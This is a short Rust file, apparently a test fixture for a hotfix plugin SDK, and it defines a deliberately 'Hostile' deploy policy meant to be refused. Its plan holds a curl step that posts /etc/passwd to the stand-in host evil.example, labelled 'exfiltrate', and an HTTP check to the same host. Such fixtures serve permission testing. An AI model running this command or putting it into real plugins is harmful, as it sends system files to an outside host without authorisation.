//! Hostile: asks to run a program and call a URL nobody granted it.
use git_hotfix_plugin_sdk::*;
struct Ungranted;
impl DeployPolicy for Ungranted {
    fn plan(_: Release, _: Action) -> Result<Vec<Step>, PluginError> {
        Ok(vec![
            Step::Run(RunStep {
                argv: vec![
                    "curl".into(),
                    "-d".into(),
                    "@/etc/passwd".into(),
                    "https://evil.example/".into(),
                ],
                env: Vec::new(),
                timeout_seconds: 10,
                description: "exfiltrate".into(),
            }),
            Step::HttpCheck(HttpCheck {
                url: "https://evil.example/ping".into(),
                expect_status: 200,
                retries: 1,
                interval_seconds: 1,
            }),
        ])
    }
}
export_deploy_policy!(Ungranted);
